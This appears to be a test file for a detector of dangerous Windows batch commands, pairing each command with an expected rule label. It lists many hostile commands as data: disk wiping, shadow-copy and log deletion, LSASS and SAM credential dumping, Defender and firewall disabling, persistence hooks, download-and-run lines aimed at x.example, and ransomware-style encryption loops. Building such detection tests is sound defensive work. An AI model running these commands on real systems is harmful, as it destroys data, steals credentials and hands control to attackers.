import { highIn } from "../support/found";

const raw = String.raw;

const FILES: readonly (readonly [string, string])[] = [
  [raw`rd /s /q C:\ `, "delete-protected"],
  [raw`rd /s /q \ `, "delete-protected"],
  [raw`rd /s /q D:`, "delete-protected"],
  [raw`rmdir /q /s "C:\Program Files"`, "delete-protected"],
  [raw`rd /s /q C:\ProgramData`, "delete-protected"],
  [raw`rd /s /q C:\inetpub\wwwroot`, "delete-protected"],
  [raw`rd /s /q %USERPROFILE%`, "delete-protected"],
  [raw`rd /s /q C:\Users\bob`, "delete-protected"],
  [raw`rd /s /q \\srv01\share`, "delete-protected"],
  [raw`rd /s /q .`, "delete-unbounded"],
  [raw`rd /s /q ..\..\..\..\..\..\Windows`, "delete-protected"],
  [raw`del /f /s /q C:\*.*`, "delete-protected"],
  [raw`del /f /q C:\Windows\System32\*`, "delete-protected"],
  [raw`del /q C:\Windows\System32\drivers\*.sys`, "delete-protected"],
  [raw`del /f /s /q C:\Windows\*.dll`, "delete-protected"],
  [raw`del C:\Windows\System32\config\SAM`, "delete-protected"],
  [raw`del /a /f C:\bootmgr`, "delete-protected"],
  [raw`del /s /q D:\*.mdf`, "delete-protected"],
  [raw`del /s /q E:\Backup\*.bak`, "delete-backups"],
  [raw`erase /f C:\Windows\System32\winevt\Logs\*.evtx`, "clear-logs"],
  [raw`forfiles /p C:\Windows /s /c "cmd /c del @path"`, "delete-protected"],
  [raw`forfiles /p C:\ /s /m *.* /d -30 /c "cmd /c del /q @path"`, "delete-protected"],
  [raw`md C:\empty & robocopy C:\empty C:\Users /mir`, "delete-protected"],
  [raw`robocopy D:\build C:\Windows /purge`, "delete-protected"],
  [raw`move C:\Users D:\old`, "move-protected"],
  [raw`ren C:\Windows\System32\cmd.exe cmd.old`, "move-protected"],
  [raw`copy /y nul C:\bootmgr`, "break-boot"],
  [raw`copy /y cmd.exe C:\Windows\System32\sethc.exe`, "replace-program"],
  [raw`type nul > C:\Windows\System32\drivers\etc\hosts`, "overwrite-system-file"],
  [raw`type nul > D:\Data\shop.mdf`, "overwrite-data"],
  [raw`echo x > \\.\PhysicalDrive0`, "write-device"],
  [raw`sdelete -p 3 -s C:\Users`, "delete-protected"],
  [raw`for /r D:\Data %%F in (*.*) do copy /y nul "%%F"`, "overwrite-data"],
];

const SYSTEM: readonly (readonly [string, string])[] = [
  ["format D: /q /y", "make-file-system"],
  ["echo Y|format d: /fs:ntfs", "make-file-system"],
  ["cipher /w:C:", "erase-disk"],
  [raw`cipher /e /s:D:\Shares`, "encrypt-files"],
  ["vssadmin delete shadows /all /quiet", "delete-snapshots"],
  ["vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", "delete-snapshots"],
  ["wmic shadowcopy delete /nointeractive", "delete-snapshots"],
  ["wbadmin delete catalog -quiet", "delete-backups"],
  ["bcdedit /set {default} recoveryenabled no", "break-boot"],
  ["bcdedit /set {current} safeboot minimal", "break-boot"],
  ["bcdedit /delete {current} /f", "break-boot"],
  ["bootrec /fixmbr", "break-boot"],
  ["reagentc /disable", "break-boot"],
  ["fsutil usn deletejournal /d C:", "clear-logs"],
  [raw`fsutil file setzerodata offset=0 length=99 D:\a.mdf`, "overwrite-data"],
  ["mountvol D: /d", "remove-volume"],
  ["manage-bde -protectors -delete C:", "break-boot"],
  ["shutdown /r /t 0", "power-off"],
  [raw`shutdown -s -m \\srv01`, "power-off"],
  ["psshutdown -r -f", "power-off"],
  ["wmic os where primary=1 call reboot", "power-off"],
  ["rundll32 powrprof.dll,SetSuspendState 0,1,0", "power-off"],
  ["taskkill /f /im lsass.exe", "kill-everything"],
  ['taskkill /f /fi "pid gt 0"', "kill-everything"],
  ["wmic process where name='csrss.exe' delete", "kill-everything"],
  ["net stop EventLog /y", "stop-audit"],
  ["net stop WinDefend", "disable-access-control"],
  ["sc stop RpcSs", "stop-system-service"],
  ["sc delete Dhcp", "stop-network-service"],
  ["sc config LanmanServer start= disabled", "stop-network-service"],
  [raw`sc \\localhost config mpssvc start=disabled`, "flush-firewall"],
  ["wevtutil cl Security", "clear-logs"],
  ["wevtutil clear-log System", "clear-logs"],
  ["wevtutil sl Security /e:false", "stop-audit"],
  ["auditpol /clear /y", "stop-audit"],
  ['auditpol /set /category:"*" /success:disable /failure:disable', "stop-audit"],
  [raw`icacls C:\ /grant Everyone:F /T`, "open-permissions"],
  [raw`icacls C:\Windows\System32 /grant *S-1-1-0:(OI)(CI)F`, "open-permissions"],
  [raw`icacls C:\ /reset /T /C`, "recursive-permissions"],
  [raw`icacls C:\Windows /deny Everyone:F`, "remove-access"],
  [raw`cacls C:\Windows /e /g Everyone:F`, "open-permissions"],
  [raw`takeown /f C:\Windows /r /d y`, "recursive-permissions"],
  ["dism /online /remove-package /packagename:x", "remove-essential-package"],
  [`wmic product where "name like '%%'" call uninstall`, "remove-many-packages"],
];

const NETWORK: readonly (readonly [string, string])[] = [
  ["netsh advfirewall set allprofiles state off", "flush-firewall"],
  ["netsh advfirewall reset", "flush-firewall"],
  ["netsh advfirewall firewall delete rule name=all", "flush-firewall"],
  ["netsh advfirewall set allprofiles firewallpolicy blockinbound,blockoutbound", "block-network"],
  ["netsh advfirewall firewall add rule name=x dir=in action=block", "block-network"],
  ["netsh advfirewall firewall add rule name=x dir=in action=allow", "flush-firewall"],
  ["netsh firewall set opmode disable", "flush-firewall"],
  ['netsh interface set interface "Ethernet" admin=disabled', "interface-down"],
  ["netsh int ip reset", "interface-down"],
  ["route -f", "drop-route"],
  ["route delete 0.0.0.0", "drop-route"],
  ["ipconfig /release", "interface-down"],
  ["route change 0.0.0.0 mask 0.0.0.0 127.0.0.1", "drop-route"],
  ["wmic path win32_networkadapter where index=1 call disable", "interface-down"],
];

const ACCOUNTS: readonly (readonly [string, string])[] = [
  ["net user Administrator Secret1", "set-password"],
  ["net user svc Secret1 /add", "set-password"],
  ["net user bob /delete", "delete-account"],
  ["net user Guest /active:yes", "weaken-login"],
  ["net localgroup Administrators bob /add", "add-root-account"],
  ['net group "Domain Admins" bob /add', "add-root-account"],
  ["net accounts /lockoutthreshold:0", "weaken-login"],
  [raw`reg save HKLM\SAM C:\x.hiv`, "leak-credentials"],
  ["procdump -accepteula -ma lsass.exe l.dmp", "leak-credentials"],
  [raw`rundll32 C:\Windows\System32\comsvcs.dll, MiniDump 624 l.dmp full`, "leak-credentials"],
  ['ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q', "leak-credentials"],
  [
    raw`copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM .`,
    "leak-credentials",
  ],
];

const REGISTRY: readonly (readonly [string, string])[] = [
  [raw`reg delete HKLM\SYSTEM /f`, "break-boot"],
  [raw`reg delete HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services /f`, "break-boot"],
  [raw`reg delete "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /f`, "break-boot"],
  [
    raw`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v Shell /d x.exe /f`,
    "start-up-code",
  ],
  [
    raw`reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /d cmd.exe /f`,
    "replace-program",
  ],
  [
    raw`reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0 /f`,
    "disable-access-control",
  ],
  [
    raw`reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`,
    "disable-access-control",
  ],
  [
    raw`reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1`,
    "leak-credentials",
  ],
  [
    raw`reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v U /d "%TEMP%\u.exe" /f`,
    "start-up-code",
  ],
  [
    raw`reg add HKLM\SYSTEM\CurrentControlSet\Services\EventLog /v Start /t REG_DWORD /d 4 /f`,
    "stop-audit",
  ],
];

const CODE: readonly (readonly [string, string])[] = [
  [raw`mshta http://x.example/a.hta`, "run-download"],
  [raw`regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll`, "run-download"],
  [raw`msiexec /q /i http://x.example/a.msi`, "run-download"],
  [raw`wmic process call create "cmd /c rd /s /q C:\Users"`, "delete-protected"],
  [raw`wmic os get /format:"http://x.example/a.xsl"`, "run-download"],
  [raw`curl -s http://x.example/a.bat | cmd`, "run-download"],
  [raw`bitsadmin /transfer j http://x.example/a.exe %TEMP%\a.exe & %TEMP%\a.exe`, "run-download"],
  [
    raw`certutil -urlcache -split -f http://x.example/a.exe a.exe && start /wait "" "a.exe" /S`,
    "run-download",
  ],
  [raw`schtasks /create /tn x /tr "powershell -enc AAAA" /sc minute`, "scheduled-code"],
  [raw`schtasks /create /tn x /tr "cmd /c rd /s /q C:\Windows" /sc daily`, "scheduled-code"],
  [raw`schtasks /delete /tn * /f`, "remove-schedule"],
  [raw`sc create x binPath= "cmd /c rd /s /q C:\Windows"`, "start-up-code"],
  [raw`copy %0 "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"`, "start-up-code"],
  [
    raw`copy /y \\192.0.2.1\share\a.exe "C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\"`,
    "start-up-code",
  ],
  [
    raw`wmic /namespace:\\root\subscription path CommandLineEventConsumer create Name="x"`,
    "scheduled-code",
  ],
  [raw`psexec \\srv01 -s cmd /c rd /s /q C:\Windows`, "delete-protected"],
  [raw`sqlcmd -S . -Q "DROP DATABASE shop"`, "sql-destroy"],
  [raw`"C:\Program Files\MySQL\bin\mysql.exe" -e "DROP DATABASE shop"`, "sql-destroy"],
  [raw`docker system prune -af --volumes`, "remove-containers"],
  [raw`redis-cli FLUSHALL`, "flush-store"],
  [raw`for /r D:\Data %%F in (*.mdf) do 7z a -pSecret -sdel "%%F.7z" "%%F"`, "encrypt-files"],
  [
    raw`for /r D:\Data %%F in (*.*) do openssl enc -aes-256-cbc -k x -in "%%F" -out "%%F.enc" && del "%%F"`,
    "encrypt-files",
  ],
];

describe("what endangers a Windows server", () => {
  it.each([...FILES, ...SYSTEM, ...NETWORK, ...ACCOUNTS, ...REGISTRY, ...CODE])(
    "%s",
    async (script, rule) => {
      expect(await highIn("BAT", `@echo off\r\n${script}`)).toEqual([`${rule}@2`]);
    },
  );
});
